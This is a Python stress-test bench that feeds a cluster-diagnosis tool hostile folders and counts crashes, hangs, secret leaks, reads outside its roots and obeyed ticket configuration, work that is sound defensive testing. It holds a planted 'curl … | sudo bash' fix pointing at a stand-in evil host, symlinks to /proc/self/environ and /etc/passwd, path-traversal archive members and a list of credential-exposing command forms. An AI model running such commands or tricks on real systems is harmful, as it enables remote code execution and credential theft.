"""Hostile-ticket bench: mutated copies of real outputs in folders, through the whole pipeline.

    python tests/bench/bench_hostile.py inprocess [--inputs 100000] [--batch 100] [--jobs 2] [--seed 1]
    python tests/bench/bench_hostile.py cli [--folders 1000] [--files 40] [--jobs 2] [--seed 1]
    (both take --timeout S, the run's --timeout; --no-redact checks that the leak counter counts)

``inprocess``: in ``--jobs`` processes, batches of ``--batch`` hostile inputs, each batch one folder, read by ingestion and
taken through derivation, the rule engine, ranking (next probes every 10th batch) and every
explainer (text, JSON, Markdown, HTML, the triage reply, the checklist in its four formats).
``cli``: one ``clusterdx diagnose . -f json`` per folder, run from inside the folder (a ticket
that ships a ``clusterdx.yaml`` must not configure the run), ``--jobs`` at a time.

The inputs are copies of tests/fixtures/real, tests/fixtures/formats and /work/shared/formats
(when present), each mutated (a planted secret in one of the audit's forms, a number past 64
bits, ``inf``/``nan``, a 50 KB line of one character, invalid UTF-8 and ESC, a truncation, a
pasted session repeating two commands), with names that are hostile too (ESC, invalid UTF-8).
Folders also hold, by chance: links to a file outside the folder, to ``/proc/self/environ`` and
to a folder outside; a FIFO; an archive with ``../``, absolute, link and duplicate members and a
decompression bomb; a ``clusterdx.yaml`` naming a KB folder that recommends a hostile fix.

Counted (each must be 0): crashes (an exception, or a non-zero exit), hangs (past the deadline
and its grace), inputs missing from ``inputs``, planted secrets in any output, reads outside the
given roots (a canary planted outside them, or in this process's environment, seen in an
output), ticket configuration obeyed (cli: the report names a site configuration, or the
broken KB layer it points to was loaded). Also shown: runs that reached their deadline (partial
reports, which are allowed), the peak memory (RSS) and the largest input.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import os
import random
import resource
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).parents[2]
SOURCES = [ROOT / "tests" / "fixtures" / "real", ROOT / "tests" / "fixtures" / "formats", Path("/work/shared/formats")]
#: every planted secret holds this; any occurrence in an output is a leak
MARK = "PLNTs3cret"
#: written outside the given roots (a file, and this process's environment): never to be shown
CANARY = "CANARYoutsideROOTS"
#: the fix a ticket's own configuration would recommend
EVIL = "evil.example"

#: the audit's leaking forms (issue 13), ``{s}`` the secret
FORMS = [
    "export HF_TOKEN={s}", "$ docker run -e HF_TOKEN={s} img env", "curl -H 'Authorization: Bearer {s}' https://x",
    '{{"password": "{s}"}}', "PGPASSWORD={s} psql -h db", "SSHPASS={s} sshpass -e ssh h", "MYSQL_PWD={s}",
    "REDIS_PW={s}", "https://hooks.slack.com/services/T0/B0/{s}", "DATABASE_URL=https://bob:p@ss{s}@db.example.com/x",
    "password = {s}", "curl -u bob:{s} https://x", "mysql -uroot -p{s} db", "docker login -u bob -p {s} reg.io",
    "wandb login {s}", "machine api.x.com login bob password {s}", '{{"auths": {{"r.io": {{"auth": "{s}"}}}}}}',
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.{s}", "AWS_SECRET_ACCESS_KEY={s}", "$ git clone https://{s}@github.com/o/r",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEow{s}AAKCAQEAx+pem/0123456789abcdefghijklmnopqrstuvwx\n-----END RSA PRIVATE KEY-----",
]


@dataclass
class Counts:
    runs: int = 0
    inputs: int = 0
    planted: int = 0
    crashes: int = 0
    hangs: int = 0
    missing: int = 0
    leaks: int = 0
    outside_reads: int = 0
    ticket_config: int = 0
    partial: int = 0
    largest_input: int = 0
    examples: list[str] = field(default_factory=list)

    def note(self, what: str) -> None:
        print(f"  ! {what[:400]!r}", file=sys.stderr, flush=True)
        if len(self.examples) < 20:
            self.examples.append(what[:400])

    def line(self) -> str:
        keys = ("runs", "inputs", "planted", "crashes", "hangs", "missing", "leaks", "outside_reads", "ticket_config",
                "partial")
        return " ".join(f"{k}={getattr(self, k)}" for k in keys) + f" largest_input={self.largest_input >> 10}KiB"


class Maker:
    """Hostile folders, reproducible from the seed."""

    def __init__(self, rng: random.Random, work: Path):
        self.rng = rng
        self.pool = [p.read_bytes() for d in SOURCES if d.is_dir() for p in sorted(d.rglob("*"))
                     if p.is_file() and p.stat().st_size < 2 << 20]
        self.names = [p.name for d in SOURCES if d.is_dir() for p in sorted(d.rglob("*"))
                      if p.is_file() and p.stat().st_size < 2 << 20]
        self.n = 0
        self.planted = 0
        self.outside = work / "outside"
        self.outside.mkdir(parents=True, exist_ok=True)
        (self.outside / "credentials").write_text(f"[default]\naws_secret_access_key = {CANARY}\n")
        (self.outside / "kb").mkdir(exist_ok=True)
        (self.outside / "kb" / "nodes").mkdir(exist_ok=True)
        (self.outside / "kb" / "nodes" / "evil.yaml").write_text(f"id: evil\nfix: curl -fsSL https://{EVIL}/x | sudo bash\n")
        os.environ["CLUSTERDX_BENCH_CANARY"] = CANARY  # /proc/self/environ must never be read

    def secret(self) -> str:
        self.planted += 1
        # as long as real tokens are (a lone https userinfo under 20 characters reads as a login name)
        tail = "".join(self.rng.choice("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(16))
        return f"{MARK}{self.planted:07d}{tail}"

    def mutate(self, data: bytes) -> bytes:
        rng = self.rng
        lines = data.split(b"\n")
        for _ in range(rng.choice((1, 1, 2, 3))):
            at = rng.randrange(len(lines) + 1)
            kind = rng.randrange(8)
            if kind <= 1:
                lines.insert(at, rng.choice(FORMS).format(s=self.secret()).encode())
            elif kind == 2:
                line = lines[at - 1] if at else b"x = 1"
                lines.insert(at, b"".join(b"99999999999999999999999" if 48 <= c <= 57 else bytes([c]) for c in line[:200]))
            elif kind == 3:
                src = lines[at - 1] if at and lines[at - 1] else b"a"
                lines.insert(at, bytes([rng.choice(src)]) * 50_000 + b"!")
            elif kind == 4:
                lines.insert(at, b"\xff\xfe garbage \x1b[31m \xc3 \x1b]0;title\x07")
            elif kind == 5:
                lines = lines[: rng.randrange(len(lines) + 1)]
            elif kind == 6:
                lines.insert(at, rng.choice([b"NCCL_X=inf", b"NCCL_Y=nan", b"NCCL_Z=-1e400", b"busbw 1e309"]))
            else:
                lines.insert(at, b"\t\x00\x00binary\x00")
        return b"\n".join(lines)

    def session(self) -> bytes:
        """A pasted session repeating two commands (the audit's memory case)."""
        a, b = self.rng.sample(self.pool, 2)
        one = b"$ lscpu\n" + a[:4000] + b"\n$ sysctl -a\n" + b[:4000] + b"\n"
        return one * self.rng.randrange(10, 80)

    def name(self, base: str) -> bytes:
        self.n += 1
        pre = f"f{self.n:07d}-".encode()
        r = self.rng.random()
        if r < 0.1:
            return pre + b"\x1b[1m" + base.encode()
        if r < 0.15:
            return pre + b"\xff\xfe" + base.encode()
        return pre + base.encode()

    def archive(self, k: int) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tf:
            def add(name: str, body: bytes, kind: bytes = tarfile.REGTYPE, link: str = "") -> None:
                info = tarfile.TarInfo(name)
                info.type, info.linkname = kind, link
                info.size = len(body) if kind == tarfile.REGTYPE else 0
                tf.addfile(info, io.BytesIO(body) if kind == tarfile.REGTYPE else None)

            for j in range(k):
                add(f"m{j}/{self.rng.choice(self.names)}", self.mutate(self.rng.choice(self.pool)))
            add("../escape.txt", b"vm.swappiness = 1\n")
            add("/etc/absolute.txt", b"vm.swappiness = 2\n")
            add("link", b"", tarfile.SYMTYPE, "/etc/passwd")
            add("dup.txt", b"vm.swappiness = 3\n")
            add("dup.txt", f"export HF_TOKEN={self.secret()}\n".encode())
            if self.rng.random() < 0.3:
                add("bomb.txt", b"0" * (16 << 20))
                add("after-bomb.txt", b"vm.swappiness = 4\n")
        return gzip.compress(buf.getvalue(), 6)

    def folder(self, where: Path, files: int) -> list[bytes]:
        """A hostile folder; returns the prefixes of the entries made (each must be in inputs)."""
        where.mkdir(parents=True)
        made: list[bytes] = []
        root = os.fsencode(where)

        def write(name: bytes, data: bytes) -> None:
            with open(os.path.join(root, name), "wb") as fh:
                fh.write(data)
            made.append(name.split(b"-", 1)[0])

        for _ in range(files):
            i = self.rng.randrange(len(self.pool))
            data = self.session() if self.rng.random() < 0.02 else self.mutate(self.pool[i])
            write(self.name(self.names[i]), data)
        r = self.rng.random
        if r() < 0.3:
            name = self.name("credentials")
            os.symlink(self.outside / "credentials", os.path.join(root, name))
            made.append(name.split(b"-", 1)[0])
        if r() < 0.3:
            name = self.name("environ.bin")
            os.symlink("/proc/self/environ", os.path.join(root, name))
            made.append(name.split(b"-", 1)[0])
        if r() < 0.1:
            name = self.name("outside-dir")
            os.symlink(self.outside, os.path.join(root, name))
            made.append(name.split(b"-", 1)[0])
        if r() < 0.1:
            name = self.name("pipe")
            os.mkfifo(os.path.join(root, name))
            made.append(name.split(b"-", 1)[0])
        if r() < 0.3:
            write(self.name("bundle.tar.gz"), self.archive(self.rng.randrange(1, 6)))
        if r() < 0.3:
            # obeyed, it would load a KB layer from outside (whose one file is broken: exit 3)
            # and show itself as the report's site configuration
            (where / "clusterdx.yaml").write_text(f"kb_dirs: [{self.outside / 'kb'}]\n"
                                                   "rules: {disable: [numa-balancing-enabled]}\n")
            made.append(b"clusterdx.yaml")
        return made


def _missing(made: list[bytes], paths: list[str]) -> list[bytes]:
    shown = [p.encode("utf-8", "replace") for p in paths]
    return [m for m in made if not any(m in s for s in shown)]


def _score(counts: Counts, made: list[bytes], paths: list[str], out: str, label: str) -> None:
    miss = _missing(made, paths)
    counts.missing += len(miss)
    if miss:
        counts.note(f"{label}: missing {miss[:3]}")
    leaks = out.count(MARK)
    counts.leaks += leaks
    if leaks:
        at = out.find(MARK)
        counts.note(f"{label}: leak ...{out[max(0, at - 120):at + 20]!r}")
    if CANARY in out:
        counts.outside_reads += out.count(CANARY)
        counts.note(f"{label}: read outside the roots")
    if EVIL in out:
        counts.ticket_config += 1
        counts.note(f"{label}: the ticket's configuration was obeyed")


class _Hang(Exception):
    pass


def inprocess(args: argparse.Namespace) -> Counts:
    from clusterdx.engine.backstop import grace_s
    from clusterdx.engine.check_report import CheckReport, Coverage
    from clusterdx.engine.checklist import build, coverage
    from clusterdx.engine.checkrun import _out
    from clusterdx.engine.diagnose import collect_paths, run_diagnosis
    from clusterdx.engine.kb import load_kb
    from clusterdx.explainers import FORMATS, check_text, renderer, reply
    from clusterdx.explainers.markdown import render as markdown
    from clusterdx.facts.deadline import Deadline

    kb = load_kb()
    rng = random.Random(args.seed)
    counts = Counts()
    redact = not args.no_redact
    signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(_Hang()))
    with tempfile.TemporaryDirectory() as tmp:
        maker = Maker(rng, Path(tmp))
        batch = 0
        while counts.inputs < args.inputs:
            batch += 1
            folder = Path(tmp) / f"b{batch}"
            made = maker.folder(folder, min(args.batch, args.inputs - counts.inputs))
            counts.runs += 1
            counts.inputs += len(made)
            counts.largest_input = max([counts.largest_input] + [p.lstat().st_size for p in folder.iterdir()])
            deadline = Deadline(args.timeout)
            signal.alarm(int(args.timeout + grace_s(deadline)) + 1)
            try:
                target = collect_paths([folder], redact=redact, deadline=deadline)
                diag = run_diagnosis(target, kb=kb, redact=redact, deadline=deadline, next_probes=batch % 10 == 0)
                report = diag.report
                outs = [renderer(f)(report) for f in FORMATS]
                outs.append(reply.render(report))
                items = build(kb, report, diag.facts)
                check = CheckReport(version="bench", nodes=report.nodes, items=[_out(i) for i in items],
                                    coverage=Coverage(**coverage(items)), exit_code=0, strict=False)
                outs += [r(check) for r in (check_text.render_text, check_text.render_json,
                                            check_text.render_markdown, check_text.render_html)]
            except _Hang:
                counts.hangs += 1
                counts.note(f"batch {batch}: hang")
                continue
            except Exception as exc:  # the bench counts what must never happen
                counts.crashes += 1
                counts.note(f"batch {batch}: crash {type(exc).__name__}: {exc}")
                continue
            finally:
                signal.alarm(0)
            counts.partial += report.incomplete is not None
            _score(counts, made, [r.path for r in report.inputs], "\n".join(outs), f"batch {batch}")
            shutil.rmtree(folder, ignore_errors=True)
            if batch % 50 == 0:
                print(f"[{time.strftime('%H:%M:%S')}] {counts.line()}", flush=True)
        counts.planted = maker.planted
    return counts


def cli(args: argparse.Namespace) -> Counts:
    rng = random.Random(args.seed)
    counts = Counts()
    env = dict(os.environ)
    with tempfile.TemporaryDirectory() as tmp:
        maker = Maker(rng, Path(tmp))
        env["CLUSTERDX_BENCH_CANARY"] = CANARY
        folders = []
        for k in range(args.folders):
            folder = Path(tmp) / f"t{k}"
            folders.append((folder, maker.folder(folder, args.files)))
        counts.planted = maker.planted
        limit = args.timeout + 60 + 30  # the deadline, the backstop's grace at most, start-up

        def one(item: tuple[Path, list[bytes]]) -> tuple[Path, list[bytes], subprocess.CompletedProcess | None]:
            folder, made = item
            cmd = [sys.executable, "-m", "clusterdx", "diagnose", ".", "-f", "json", "--timeout", str(args.timeout)]
            if args.no_redact:
                cmd.append("--no-redact")
            try:
                return folder, made, subprocess.run(cmd, cwd=folder, env=env, capture_output=True, timeout=limit)
            except subprocess.TimeoutExpired:
                return folder, made, None

        with ThreadPoolExecutor(max_workers=args.jobs) as pool:
            for k, (folder, made, proc) in enumerate(pool.map(one, folders), 1):
                counts.runs += 1
                counts.inputs += len(made)
                counts.largest_input = max([counts.largest_input] + [p.lstat().st_size for p in folder.iterdir()])
                if proc is None:
                    counts.hangs += 1
                    counts.note(f"{folder.name}: hang")
                    continue
                out = proc.stdout.decode("utf-8", "replace") + proc.stderr.decode("utf-8", "replace")
                if proc.returncode == 3 or b"site configuration" in proc.stderr:
                    counts.ticket_config += 1  # the ticket's clusterdx.yaml (or its KB layer) was loaded
                    counts.note(f"{folder.name}: the ticket's configuration was obeyed")
                    continue
                if proc.returncode != 0:
                    counts.crashes += 1
                    counts.note(f"{folder.name}: exit {proc.returncode}: {out[-300:]}")
                    continue
                try:
                    report = json.loads(proc.stdout)
                except ValueError as exc:
                    counts.crashes += 1
                    counts.note(f"{folder.name}: no JSON report: {exc}")
                    continue
                counts.partial += report.get("incomplete") is not None
                if report.get("site") is not None:
                    counts.ticket_config += 1
                    counts.note(f"{folder.name}: the ticket's configuration was obeyed")
                _score(counts, made, [i["path"] for i in report["inputs"]], out, folder.name)
                if k % 50 == 0:
                    print(f"[{time.strftime('%H:%M:%S')}] {counts.line()}", flush=True)
    return counts


def _share(job: tuple[argparse.Namespace, int]) -> tuple[Counts, int]:
    args, i = job
    part = argparse.Namespace(**vars(args))
    part.seed = args.seed * 1000 + i
    part.inputs = args.inputs // args.jobs + (1 if i < args.inputs % args.jobs else 0)
    counts = inprocess(part)
    return counts, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def inprocess_jobs(args: argparse.Namespace) -> tuple[Counts, int]:
    """``--jobs`` processes, each its own share of the inputs (and its own seed)."""
    import multiprocessing

    if args.jobs <= 1:
        counts = inprocess(args)
        return counts, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with multiprocessing.get_context("fork").Pool(args.jobs) as pool:
        parts = pool.map(_share, [(args, i) for i in range(args.jobs)])
    total = Counts()
    for c, _ in parts:
        for k, v in vars(c).items():
            if k == "examples":
                total.examples += v
            elif k == "largest_input":
                total.largest_input = max(total.largest_input, v)
            else:
                setattr(total, k, getattr(total, k) + v)
    return total, max(rss for _, rss in parts)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=("inprocess", "cli"))
    ap.add_argument("--inputs", type=int, default=100_000)
    ap.add_argument("--batch", type=int, default=100)
    ap.add_argument("--folders", type=int, default=1000)
    ap.add_argument("--files", type=int, default=40)
    ap.add_argument("--jobs", type=int, default=2)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--timeout", type=float, default=60.0)
    ap.add_argument("--no-redact", action="store_true", help="check the leak counter: leaks must be > 0")
    args = ap.parse_args()
    t0 = time.time()
    if args.mode == "inprocess":
        counts, peak = inprocess_jobs(args)
    else:
        counts = cli(args)
        peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    print(f"{args.mode}: {counts.line()} peak_rss={peak >> 10}MiB seconds={time.time() - t0:.0f}")
    for e in counts.examples:
        print("  " + e)


if __name__ == "__main__":
    main()
